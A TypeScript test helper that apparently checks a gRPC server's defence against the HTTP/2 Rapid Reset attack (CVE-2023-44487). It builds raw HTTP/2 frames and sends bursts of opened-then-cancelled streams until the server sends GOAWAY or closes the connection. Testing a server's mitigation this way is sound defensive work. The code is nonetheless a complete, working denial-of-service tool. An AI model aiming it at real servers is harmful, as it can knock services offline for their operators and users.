/**
 * For tests: who opens calls and cancels each at once (CVE-2023-44487), frame by frame. Not with the client of
 * Node: it keeps cancelled calls from being sent at all, at times all of them, and waits for them for ever.
 */
import type { Socket } from 'node:net';

export interface CutOff {
  readonly opened: number;
  /** The code of HTTP/2 with which the server said so; null: it said nothing. */
  readonly code: number | null;
}

/** Of RFC 9113. */
const FRAME = { headers: 1, reset: 3, settings: 4, goaway: 7 };
const HEAD_BYTES = 9;
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const BURST = 50;
const PAUSE_MS = 5;

/** Until it is cut off, or `most` are through. `ready`: the socket's event after which it may write. */
export function rapidReset(
  socket: Socket,
  ready: 'connect' | 'secureConnect',
  { path, most }: { readonly path: string; readonly most: number },
): Promise<CutOff> {
  return new Promise((resolve) => {
    let opened = 0;
    let code: number | null = null;
    let received = Buffer.alloc(0);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      resolve({ opened, code });
    });
    socket.on('data', (bytes: Buffer) => {
      received = Buffer.concat([received, bytes]);
      for (let size = sizeOf(received); size <= received.length; size = sizeOf(received)) {
        if (received[3] === FRAME.goaway) code ??= received.readUInt32BE(HEAD_BYTES + 4);
        received = received.subarray(size);
      }
    });
    const headers = headersOf(path);
    const more = (): void => {
      if (socket.destroyed || !socket.writable) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < BURST; i += 1, opened += 1) {
        const call = 2 * opened + 1;
        frames.push(frame(FRAME.headers, END_HEADERS, call, headers));
        frames.push(frame(FRAME.reset, 0, call, CANCEL));
      }
      socket.write(Buffer.concat(frames));
      if (opened >= most) socket.destroy();
      else setTimeout(more, PAUSE_MS);
    };
    socket.once(ready, () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(FRAME.settings, 0, 0, Buffer.alloc(0)));
      more();
    });
  });
}

/** Of the first frame in these bytes. */
function sizeOf(bytes: Buffer): number {
  return bytes.length < HEAD_BYTES ? Infinity : HEAD_BYTES + bytes.readUIntBE(0, 3);
}

function frame(type: number, flags: number, call: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(call, 5);
  return Buffer.concat([head, payload]);
}

/** Entries of the static table of RFC 7541, and literals without indexing. */
function headersOf(path: string): Buffer {
  const text = (value: string): Buffer => Buffer.from([value.length, ...Buffer.from(value)]);
  const [POST, HTTP, AUTHORITY, PATH] = [0x83, 0x86, 0x01, 0x04];
  const [CONTENT_TYPE, NEW] = [[0x0f, 0x10], 0x00];
  return Buffer.concat([
    Buffer.from([POST, HTTP, AUTHORITY]),
    text('meridian'),
    Buffer.from([PATH]),
    text(path),
    Buffer.from(CONTENT_TYPE),
    text('application/grpc'),
    Buffer.from([NEW]),
    text('te'),
    text('trailers'),
  ]);
}
